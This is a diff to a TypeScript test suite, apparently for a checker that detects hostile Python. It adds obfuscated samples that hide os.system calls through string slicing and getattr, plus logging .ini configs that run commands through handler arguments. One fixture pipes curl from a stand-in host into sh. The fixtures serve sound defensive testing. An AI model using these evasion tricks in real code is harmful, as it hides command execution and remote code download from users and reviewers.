@@ -38,6 +38,10 @@ const FIND =
   'def find(name):\n    module, thing = name.rsplit(".", 1)\n    return getattr(importlib.import_module(module), thing)\n';
 const LOAD =
   'import importlib.util, os, pathlib\nHERE = os.path.dirname(__file__)\ndef run(path):\n    spec = importlib.util.spec_from_file_location("a", path)\n    module = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(module)\n    module.run()\n';
+const logging = (text: string, file = 'log.ini'): Files => ({
+  '__init__.py': `import logging.config\nlogging.config.fileConfig("${file}")\n`,
+  [file]: text,
+});
 const COPY = 'import os, types\ndef f():\n    run("a")\ndef copy(f):\n    return ';
 
 describe('the checks accept the honest use, and hold the hostile one, of', () => {
@@ -46,7 +50,13 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       'commands of which the last character is cut',
       {
         honest: inNode('import subprocess', 'for line in open(x): subprocess.run(line[:-1], shell=True)'),
-        hostile: [inNode('import subprocess', 'for line in open(x): subprocess.run(line[::-1], shell=True)')],
+        hostile: [
+          inNode('import subprocess', 'for line in open(x): subprocess.run(line[::-1], shell=True)'),
+          '__import__("osX"[:-1]).system("id")\n',
+          'import os\ngetattr(os, "Xsystem"[1:])("id")\n',
+          inNode('import subprocess', 'subprocess.run("curl https://e.example | shX"[:-1], shell=True)'),
+          '__import__("oxsx"[::2]).system("id")\n',
+        ],
       },
     ],
     [
@@ -103,7 +113,8 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
     [
       'functions that settings name',
       {
-        honest: 'from pydoc import locate\ndef f(name): return locate(name)()\n',
+        honest:
+          'from pydoc import locate\ndef f(name): return locate(name)()\nTYPES = {"a": "int", "b": "float"}\nVALUES = {key: locate(name)("3") for key, name in TYPES.items()}\n',
         hostile: [
           'import json\nfrom pydoc import locate\nfor hook in json.load(open("a.json")): locate(hook["call"])(*hook["args"])\n',
           'import json, pkgutil\nfor hook in json.load(open("a.json")): pkgutil.resolve_name(hook["call"])(*hook["args"])\n',
@@ -113,16 +124,18 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
     [
       'configurations of logging',
       {
-        honest: {
-          '__init__.py': 'import logging.config\nlogging.config.fileConfig("log.ini")\n',
-          'log.ini': '[handler_a]\nclass=handlers.RotatingFileHandler\nargs=("a.log", "a", 1000)\n',
-        },
-        hostile: ['class=StreamHandler\nargs=(os.system("id"),)\n', 'class=os.system\nargs=("id",)\n'].map(
-          (handler) => ({
-            '__init__.py': 'import logging.config\nlogging.config.fileConfig("log.ini")\n',
-            'log.ini': `[handler_a]\n${handler}`,
-          }),
+        honest: logging(
+          '[handler_a]\n# compile(the docs) first\nclass=handlers.RotatingFileHandler\nargs=(os.path.join("a", "a.log"), "a", 1000)\n[formatter_b]\nformat=%(asctime)s compile (x)\n',
         ),
+        hostile: [
+          '[handler_a]\nclass=StreamHandler\nargs=(os.system("id"),)\n',
+          ' [handler_a]\n class=StreamHandler\n args=(os .system("id"),)\n',
+          '[handler_a]\nclass=os . system\nargs=("id",)\n',
+          '[handler_a]\nclass=StreamHandler\nargs=(traceback.sys.modules["os"].popen("id"),)\n',
+          `[formatter_a]\nformat=${'aa() '.repeat(600)}\n[handler_a]\nkwargs={"a":\n  os.system("id")}\n`,
+        ]
+          .map((text) => logging(text))
+          .concat([logging('', 'log.txt')]),
       },
     ],
     [
